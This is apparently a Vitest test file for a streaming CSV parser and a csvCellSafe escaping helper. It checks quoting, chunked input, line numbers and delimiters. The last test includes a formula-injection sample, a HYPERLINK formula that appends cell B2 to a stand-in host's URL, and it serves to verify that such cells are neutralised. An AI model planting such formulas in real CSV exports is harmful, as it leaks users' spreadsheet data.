import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { CsvParser, csvCellSafe, parseCsv } from '../src/model/csv.js';
import { isSelectivityError } from '../src/errors.js';

/** Feeds `text` cut at the given positions; returns rows and their start lines. */
function parseSplit(text: string, cuts: number[], options?: { delimiter?: string; skipEmptyLines?: boolean }) {
  const p = new CsvParser(options);
  const rows: string[][] = [];
  const lines: number[] = [];
  let at = 0;
  for (const c of [...cuts].sort((a, b) => a - b)) {
    rows.push(...p.push(text.slice(at, c)));
    lines.push(...p.lines);
    at = c;
  }
  rows.push(...p.push(text.slice(at)));
  lines.push(...p.lines);
  rows.push(...p.end());
  lines.push(...p.lines);
  return { rows, lines };
}

/** Serialises rows per RFC 4180 (quotes only where needed). */
function toCsv(rows: string[][], eol: string): string {
  const cell = (v: string, only: boolean) =>
    /[",\r\n]/.test(v) || (only && v === '') ? `"${v.replace(/"/g, '""')}"` : v;
  return rows.map((r) => r.map((v) => cell(v, r.length === 1)).join(',')).join(eol) + eol;
}

const TRICKY = [
  '\uFEFFid,text,n\r\n',
  '1,"a, b",2\r\n',
  '2,"say ""hi""",3\n',
  '3,"multi\r\nline\nfield",4\n',
  '\n',
  '4,,\r\n',
  '5,"",""\n',
  '6,"""",x\r\n',
  '7,"ends with quote """,y',
].join('');

const TRICKY_ROWS = [
  ['id', 'text', 'n'],
  ['1', 'a, b', '2'],
  ['2', 'say "hi"', '3'],
  ['3', 'multi\r\nline\nfield', '4'],
  ['4', '', ''],
  ['5', '', ''],
  ['6', '"', 'x'],
  ['7', 'ends with quote "', 'y'],
];
const TRICKY_LINES = [1, 2, 3, 4, 8, 9, 10, 11];

describe('CsvParser', () => {
  it('parses quoted fields, escaped quotes, embedded delimiters and newlines, CRLF and a BOM', () => {
    const { rows, lines } = parseCsv(TRICKY);
    expect(rows).toEqual(TRICKY_ROWS);
    expect(lines).toEqual(TRICKY_LINES);
  });

  it('gives the same rows and lines whatever single position the input is cut at', () => {
    for (let k = 0; k <= TRICKY.length; k++) {
      const got = parseSplit(TRICKY, [k]);
      expect(got.rows, `cut at ${k}`).toEqual(TRICKY_ROWS);
      expect(got.lines, `cut at ${k}`).toEqual(TRICKY_LINES);
    }
  });

  it('gives the same rows whatever pair of positions the input is cut at', () => {
    const text = 'a,"b""\r\nc"\r\n"x""",y\r\n';
    const want = parseCsv(text);
    expect(want.rows).toEqual([['a', 'b"\r\nc'], ['x"', 'y']]);
    expect(want.lines).toEqual([1, 3]);
    for (let j = 0; j <= text.length; j++) {
      for (let k = j; k <= text.length; k++) {
        expect(parseSplit(text, [j, k]), `cuts ${j},${k}`).toEqual(want);
      }
    }
  });

  it('parses the input fed one character at a time', () => {
    const cuts = Array.from({ length: TRICKY.length }, (_, i) => i);
    const got = parseSplit(TRICKY, cuts);
    expect(got.rows).toEqual(TRICKY_ROWS);
    expect(got.lines).toEqual(TRICKY_LINES);
  });

  it('round-trips random rows through RFC 4180 text cut at random places', () => {
    const cellChars = fc.constantFrom('a', 'b', ',', '"', '\r', '\n', ' ', 'é', '1');
    const cell = fc.array(cellChars, { maxLength: 6 }).map((cs) => cs.join(''));
    const rowArb = fc.array(cell, { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(
        fc.array(rowArb, { minLength: 1, maxLength: 6 }),
        fc.constantFrom('\n', '\r\n'),
        fc.array(fc.nat(), { maxLength: 5 }),
        (rows, eol, rawCuts) => {
          const text = toCsv(rows, eol);
          const cuts = rawCuts.map((c) => c % (text.length + 1));
          const got = parseSplit(text, cuts);
          expect(got.rows).toEqual(rows);
          // each row starts one line after the previous row's newlines
          let line = 1;
          const want: number[] = [];
          for (const r of rows) {
            want.push(line);
            line += 1 + r.join(',').split('\n').length - 1;
          }
          expect(got.lines).toEqual(want);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('counts lines for rows that span lines and skips empty lines', () => {
    const { rows, lines } = parseCsv('h\n\n"a\nb"\n\n\nc\n');
    expect(rows).toEqual([['h'], ['a\nb'], ['c']]);
    expect(lines).toEqual([1, 3, 7]);
  });

  it('keeps empty lines when asked', () => {
    const { rows } = parseCsv('a\n\nb\n', { skipEmptyLines: false });
    expect(rows).toEqual([['a'], [''], ['b']]);
  });

  it('reads a last row without a line terminator, and a trailing empty field', () => {
    expect(parseCsv('a,b\nc,').rows).toEqual([['a', 'b'], ['c', '']]);
    expect(parseCsv('a,b\r\nc,d').rows).toEqual([['a', 'b'], ['c', 'd']]);
    expect(parseCsv('a,"b"').rows).toEqual([['a', 'b']]);
    expect(parseCsv('').rows).toEqual([]);
  });

  it('drops a CR at the end of input and keeps a lone CR inside a field', () => {
    expect(parseCsv('a,b\r').rows).toEqual([['a', 'b']]);
    expect(parseCsv('a\rb,c\n').rows).toEqual([['a\rb', 'c']]);
    expect(parseSplit('a\rb,c\n', [2]).rows).toEqual([['a\rb', 'c']]);
    expect(parseSplit('"a"\r\nb\n', [4]).rows).toEqual([['a'], ['b']]);
  });

  it('is lenient with quotes inside unquoted fields and text after a closing quote', () => {
    expect(parseCsv('5" pipe,x\n').rows).toEqual([['5" pipe', 'x']]);
    expect(parseCsv('"ab"c,d\n').rows).toEqual([['abc', 'd']]);
  });

  it('strips the BOM only at the very start, even when the first chunk is empty', () => {
    const p = new CsvParser();
    expect(p.push('')).toEqual([]);
    expect(p.push('\uFEFFa,b\n\uFEFFc,d\n')).toEqual([['a', 'b'], ['\uFEFFc', 'd']]);
  });

  it('throws SEL_ERR_DECL_PARSE with the row line on an unterminated quote', () => {
    const p = new CsvParser();
    expect(p.push('a,b\nc,"open\nstill open\n')).toEqual([['a', 'b']]);
    let caught: unknown;
    try {
      p.end();
    } catch (e) {
      caught = e;
    }
    expect(isSelectivityError(caught)).toBe(true);
    if (!isSelectivityError(caught)) return;
    expect(caught.code).toBe('SEL_ERR_DECL_PARSE');
    expect(caught.details.line).toBe(2);
  });

  it('is reusable after end()', () => {
    const p = new CsvParser();
    p.push('x\ny');
    expect(p.end()).toEqual([['y']]);
    expect(p.push('\uFEFFa\n')).toEqual([['a']]);
    expect(p.lines).toEqual([1]);
  });

  it('supports another delimiter and rejects a bad one', () => {
    expect(parseCsv('a;"b;c"\td\n', { delimiter: ';' }).rows).toEqual([['a', 'b;c\td']]);
    expect(parseCsv('a\t"b\tc"\n', { delimiter: '\t' }).rows).toEqual([['a', 'b\tc']]);
    expect(() => new CsvParser({ delimiter: '"' })).toThrow(expect.objectContaining({ code: 'SEL_ERR_OPTION_INVALID' }));
    expect(() => new CsvParser({ delimiter: ';;' })).toThrow(expect.objectContaining({ code: 'SEL_ERR_OPTION_INVALID' }));
  });

  it('stays linear on a huge quoted field cut into many chunks', () => {
    const big = 'x'.repeat(1_000_000) + '""' + '\n'.repeat(1000);
    const text = `id,"${big}"\n`;
    const p = new CsvParser();
    const rows: string[][] = [];
    const t0 = Date.now();
    for (let i = 0; i < text.length; i += 128) rows.push(...p.push(text.slice(i, i + 128)));
    rows.push(...p.end());
    expect(Date.now() - t0).toBeLessThan(2000);
    expect(rows).toHaveLength(1);
    expect(rows[0][1]).toBe('x'.repeat(1_000_000) + '"' + '\n'.repeat(1000));
  });
});

describe('csvCellSafe', () => {
  it('quotes as RFC 4180 does, and makes a cell a spreadsheet would read as a formula text (a leading \')', () => {
    expect(csvCellSafe('=HYPERLINK("http://x.example/?"&B2,"open")')).toBe(`"'=HYPERLINK(""http://x.example/?""&B2,""open"")"`);
    for (const f of ['+1+2', '-A1', '@SUM(A1)', '\tx', '\rx']) expect(csvCellSafe(f).replace(/^"/, '').startsWith(`'`), JSON.stringify(f)).toBe(true);
    // numbers stay numbers; ordinary text is untouched
    for (const n of ['-1.5', '+2', '-0.000123', '1e-5', '-3E+2', '42']) expect(csvCellSafe(n)).toBe(n);
    expect(csvCellSafe('D0000003')).toBe('D0000003');
    expect(csvCellSafe('a,b')).toBe('"a,b"');
    expect(csvCellSafe('PROFILE:SPS-MEAT-CN')).toBe('PROFILE:SPS-MEAT-CN');
  });
});
